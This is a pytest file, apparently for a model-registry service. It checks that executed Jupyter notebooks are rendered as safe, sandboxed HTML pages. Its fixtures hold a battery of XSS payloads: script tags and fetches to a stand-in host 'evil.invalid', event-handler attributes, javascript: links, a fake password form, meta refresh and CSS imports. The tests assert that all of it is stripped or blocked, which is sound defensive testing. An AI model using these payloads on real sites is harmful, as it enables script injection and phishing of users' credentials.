"""Notebooks of runs as pages to read: what people wrote is there, and what could do harm is not."""

import http.server
import json
import threading
from collections.abc import Iterator
from typing import Any

import nbformat
import pytest

from a360_hub_service.api.notebooks import SANDBOX
from a360_hub_service.backends.notebooks import LARGEST
from tests.support.chromium import chromium
from tests.support.lab import Lab, ok
from tests.support.service import ServiceProcess, wait_for

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
EVIL = "http://evil.invalid"
HTML = f"""<script>document.title = "hacked"; fetch("{EVIL}/script")</script>
<img src="{EVIL}/image.png"><img src=x onerror="document.title = 'hacked'">
<iframe src="javascript:alert(1)"></iframe><iframe src="{EVIL}/frame"></iframe>
<style>@import url({EVIL}/sheet.css); body {{ display: none }}</style><link rel=stylesheet href={EVIL}/l.css>
<a id="trap" href="javascript:document.title='hacked'">click</a>
<a href="data:text/html,<script>1</script>">data</a>
<form action="{EVIL}/form"><input name=password><button>Sign in</button></form>
<meta http-equiv="refresh" content="0; url={EVIL}/refresh"><base href="{EVIL}">
<div style="position: fixed; inset: 0; background: url({EVIL}/b.png); color: red">over everything</div>
<svg onload="document.title='hacked'"><script>document.title = "hacked"</script></svg>
<object data="{EVIL}/object"></object><embed src="{EVIL}/embed"><video src="{EVIL}/v" autoplay></video>
</div></div></div></main><table><tr><td onclick="alert(1)">42</td></tr></table>"""


def hostile() -> bytes:
    v4 = nbformat.v4
    outputs = [
        v4.new_output("stream", text="plain \x1b[31mred\x1b[0m <b>text</b>\n"),
        v4.new_output("display_data", {"text/html": HTML, "text/plain": "instead"}),
        v4.new_output("display_data", {"text/html": HTML}, metadata={"text/html": {"isolated": True}}),
        v4.new_output("display_data", {"application/javascript": f'fetch("{EVIL}/js")'}),
        v4.new_output("display_data", {"text/markdown": f"**bold** ![i]({EVIL}/m.png) {HTML}"}),
        v4.new_output(
            "display_data",
            {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{EVIL}/svg'/></svg>"},
        ),
        v4.new_output("display_data", {"image/png": PIXEL, "text/plain": "plot"}),
        v4.new_output("display_data", {"image/png": f'"><script src="{EVIL}/png"></script>'}),
        v4.new_output("display_data", {"text/latex": f"$x$ <script src='{EVIL}/latex'></script>"}),
        v4.new_output("display_data", {"application/vnd.jupyter.widget-view+json": {"model_id": "a"}}),
        v4.new_output("error", ename="E", evalue="", traceback=["\x1b[0;31mValueError\x1b[0m: <script>"]),
    ]
    made = v4.new_notebook(
        metadata={
            "title": HTML,
            "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"</script><script>": 1}}},
            "language_info": {"name": "python", "pygments_lexer": '"><script>'},
        },
        cells=[
            v4.new_markdown_cell(f"# A heading\n[link](javascript:alert(1)) ![i]({EVIL}/m.png)\n{HTML}"),
            v4.new_code_cell(
                "x = 1 < 2  # </pre><script>", outputs=outputs, metadata={"tags": ['"><script>']}
            ),
            v4.new_raw_cell(HTML, metadata={"raw_mimetype": "text/html"}),
            v4.new_markdown_cell("The end is there"),
        ],
    )
    return nbformat.writes(made).encode()


def stored(lab: Lab, content: bytes, **more: Any) -> dict[str, Any]:
    """The artifact of a failed run that captured this notebook."""
    model = lab.model()
    run = lab.run(lab.experiment(model), metadata={"captured_notebook": "/home/jovyan/<b>daily.ipynb"})
    artifact = lab.artifact(run, "executed_notebook", content=content, **{"kind": "notebook", **more})
    body = {"status": "failed", "error": "IndexError: <i>", "artifacts": [artifact]}
    closed = ok(lab.scientist.post(f"/runs/{run['id']}/finish", json=body))
    return {**closed["artifacts"][0], "model_id": model["id"]}


ON_ONE_DATABASE = pytest.mark.parametrize("service", ["sqlite"], indirect=True)
"""For what is converted or shown the same, wherever the artifact's row is."""


@pytest.fixture
def lab(service: ServiceProcess) -> Iterator[Lab]:
    with Lab(service) as made:
        yield made


def address(lab: Lab, artifact: dict[str, Any]) -> str:
    return f"{lab.service.url}/artifacts/{artifact['id']}/notebook"


def test_a_notebook_is_shown_with_all_it_says_and_nothing_it_does(lab: Lab) -> None:
    artifact = stored(lab, hostile())
    answer = lab.reviewer.get(address(lab, artifact))
    assert answer.status_code == 200, answer.text
    assert answer.headers["Content-Type"] == "text/html; charset=utf-8"
    policy = answer.headers["Content-Security-Policy"].split("; ")
    assert {"default-src 'none'", "sandbox", "frame-ancestors 'none'", "form-action 'none'"} <= set(policy)
    assert "script" not in "".join(policy)
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    page = answer.text
    for said in ("A heading", "The end is there", "plain ", "&lt;b&gt;text&lt;/b&gt;", "over everything",
                 "<td>42</td>", f"data:image/png;base64,{PIXEL}", "ValueError", "churn 1.0",
                 "bold"):  # fmt: skip
        assert said in page, said
    lower = page.lower()
    for tag in ("<script", "<iframe", "<form", "<input", "<button", "<link", "<base", "<object", "<embed",
                "<video", "<svg", "http-equiv", "javascript:", "onerror", "onload", "onclick", "position:",
                f'src="{EVIL}', "url(", "data:text/html"):  # fmt: skip
        assert tag not in lower, tag
    assert lower.count("<style>") == 1
    # A browser that has it asks again whether it may still see it, and is sent nothing twice.
    again = lab.reviewer.get(address(lab, artifact), headers={"If-None-Match": answer.headers["Etag"]})
    assert (again.status_code, again.content) == (304, b"")
    for name in ("Content-Security-Policy", "Referrer-Policy", "Cross-Origin-Opener-Policy"):
        assert again.headers[name] == answer.headers[name], "a browser keeps what it was told last"


def test_the_page_of_the_model_leads_to_it(lab: Lab) -> None:
    artifact = stored(lab, hostile())
    page = lab.scientist.get(f"{lab.service.url}/models/{artifact['model_id']}").text
    assert f'/artifacts/{artifact["id"]}/notebook">&lt;b&gt;daily.ipynb</a>' in page
    assert "IndexError: &lt;i&gt;" in page
    model = lab.model("other")
    run = lab.run(lab.experiment(model))
    notebook = lab.artifact(run, "model_training_notebook", kind="notebook", content=hostile())
    body = {"status": "finished", "artifacts": [lab.artifact(run), notebook]}
    finished = ok(lab.scientist.post(f"/runs/{run['id']}/finish", json=body))
    ok(lab.choose(model, finished))
    page = lab.scientist.get(f"{lab.service.url}/models/{model['id']}").text
    (shown,) = [each for each in finished["artifacts"] if each["kind"] == "notebook"]
    assert f'/artifacts/{shown["id"]}/notebook">model_training_notebook</a>' in page
    assert page.count('/notebook">') == 1


def test_who_may_not_see_the_model_sees_no_notebook(lab: Lab) -> None:
    artifact = stored(lab, hostile())
    tag = lab.reviewer.get(address(lab, artifact)).headers["Etag"]
    for person in (lab.outsider, lab.nobody):
        answer = person.get(address(lab, artifact), headers={"If-None-Match": tag})
        assert answer.status_code in (403, 404)
        assert "A heading" not in answer.text
    assert lab.scientist.post(address(lab, artifact)).status_code == 405


@ON_ONE_DATABASE
def test_what_is_no_notebook_is_refused_in_words(lab: Lab) -> None:
    for content in (b"\x00\xff", b"[]", b"{}", json.dumps({"cells": 3, "nbformat": 4}).encode(), b"9" * 5000):
        answer = lab.scientist.get(address(lab, stored(lab, content)))
        assert answer.status_code == 422, answer.text
        assert "This is no notebook" in answer.text
        assert "Download the artifact" in answer.text
    other = stored(lab, b"{}", kind="parameters")
    assert "is no notebook" in lab.scientist.get(address(lab, other)).text
    large = stored(lab, b" " * (LARGEST + 1))
    assert lab.scientist.get(address(lab, large)).status_code == 413


def test_a_notebook_that_was_changed_since_is_not_shown(lab: Lab) -> None:
    artifact = stored(lab, b'{"cells": [1]}')
    files = [path for path in lab.service.home.rglob("executed_notebook") if artifact["run_id"] in str(path)]
    files[0].write_bytes(b'{"cells": [2]}')
    assert lab.scientist.get(address(lab, artifact)).status_code == 409
    files[0].unlink()
    assert lab.scientist.get(address(lab, artifact)).status_code == 404


def wide() -> bytes:
    """A notebook of what is wider than a telephone: tables, code, lines and pictures."""
    v4 = nbformat.v4
    head = "".join(f"<th>MonthlyCharges_{n}</th>" for n in range(30))
    row = "".join(f"<td>-0.{n:06}</td>" for n in range(30))
    outputs = [
        v4.new_output("stream", text="x" * 500 + "\n\x1b[91mbright\x1b[0m \x1b[7minverse\x1b[0m\n"),
        v4.new_output("display_data", {"text/html": f"<table><tr>{head}</tr><tr>{row}</tr></table>"}),
        v4.new_output("display_data", {"image/png": PIXEL}, metadata={"image/png": {"width": 2000}}),
    ]
    table = "|".join(["a_name_of_a_feature"] * 20)
    rule = "|".join(["---"] * 20)
    return nbformat.writes(
        v4.new_notebook(
            cells=[
                v4.new_markdown_cell(f"# {'Heading' * 30}\n{'word' * 100}\n\n{table}\n{rule}\n{table}"),
                v4.new_code_cell("call(" + "argument, " * 60 + ")", outputs=outputs),
                v4.new_raw_cell("---\ntitle: <b>$x$\n\nauthor: $$ </pre>\n---"),
            ]
        )
    ).encode()


LINES = """(selector => {
  const range = document.createRange();
  range.selectNodeContents(document.querySelector(selector));
  return range.getClientRects().length;
})"""


@ON_ONE_DATABASE
@pytest.mark.long
@pytest.mark.parametrize("width", [390, 1440])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_it_can_be_read_on_every_screen(lab: Lab, width: int, scheme: str) -> None:
    artifact = stored(lab, wide())
    with chromium() as tab:
        tab.do(
            "Emulation.setDeviceMetricsOverride",
            width=width, height=900, deviceScaleFactor=1, mobile=width < 500,
        )  # fmt: skip
        preferred = {"name": "prefers-color-scheme", "value": scheme}
        tab.do("Emulation.setEmulatedMedia", features=[preferred])
        tab.open(address(lab, artifact), {"Authorization": "Bearer test-scientist"})
        assert tab.value("document.documentElement.scrollWidth") <= width
        # What is wider moves in its own place, and no number or name is broken into letters.
        for cell in (".output_html th", ".output_html td", ".text_cell_render th"):
            assert tab.value(f"{LINES}('{cell}')") == 1
            place = f"document.querySelector('{cell}').closest('.rendered_html')"
            assert tab.value(f"{place}.scrollWidth > {place}.clientWidth")
            assert tab.value(f"getComputedStyle({place}).overflowX") == "auto"
        # Figures are drawn for white.
        body = "getComputedStyle(document.body)"
        colours = (tab.value(f"{body}.backgroundColor"), tab.value(f"{body}.color"))
        assert colours == ("rgb(255, 255, 255)", "rgb(28, 30, 33)")
        raw = "[...document.querySelectorAll('pre')].at(-1)"
        assert tab.value(f"{raw}.innerText") == "---\ntitle: <b>$x$\n\nauthor: $$ </pre>\n---"
        assert tab.value("getComputedStyle(document.querySelector('.anchor-link')).visibility") == "hidden"
        inverse = "getComputedStyle(document.querySelector('.ansi-default-inverse-bg'))"
        assert tab.value(f"{inverse}.color") == "rgb(255, 255, 255)"


class Raw(http.server.BaseHTTPRequestHandler):
    """Hostile markup as it is, with the headers notebooks are served with: the second barrier by itself."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        if self.path != "/bare":
            self.send_header("Content-Security-Policy", SANDBOX)
        self.end_headers()
        self.wfile.write(f"<title>calm</title>{HTML}".replace("http-equiv", "data-x").encode())

    def log_message(self, *args: object) -> None:
        """Say nothing."""


@ON_ONE_DATABASE
@pytest.mark.long
def test_a_browser_runs_and_loads_nothing_of_it(lab: Lab) -> None:
    artifact = stored(lab, hostile())
    with chromium() as tab:
        tab.open(address(lab, artifact), {"Authorization": "Bearer test-scientist"})
        tab.settle()
        assert tab.value("document.title") == "executed_notebook of churn 1.0"
        assert tab.requested() == [address(lab, artifact)]
        assert tab.value("document.querySelectorAll('script, iframe, form, svg').length") == 0
        assert tab.value("getComputedStyle(document.body).display") == "block"
        assert tab.value("document.querySelector('.output_png img').naturalWidth") == 1
        assert "42" in tab.value("document.querySelector('main').innerText")
        assert not [event for event in tab.events if event["method"] == "Page.javascriptDialogOpening"]

        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Raw)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            url = f"http://127.0.0.1:{server.server_address[1]}/"
            tab.open(f"{url}bare")
            wait_for(lambda: tab.value("document.title") == "hacked")  # it would, without the headers
            tab.open(url)
            tab.value("document.getElementById('trap').click()")
            tab.settle()
            assert tab.value("document.title") == "calm"
            assert tab.value("self.origin") == "null"
            reached = [
                event["params"]["response"]["url"]
                for event in tab.events
                if event["method"] == "Network.responseReceived"
            ]
            # The browser itself asks for an icon, when it finds the time.
            asked = [
                each for each in reached if each.startswith("http") and not each.endswith("/favicon.ico")
            ]
            assert asked == [url]
            assert not [event for event in tab.events if event["method"] == "Page.javascriptDialogOpening"]
        finally:
            server.shutdown()
            server.server_close()
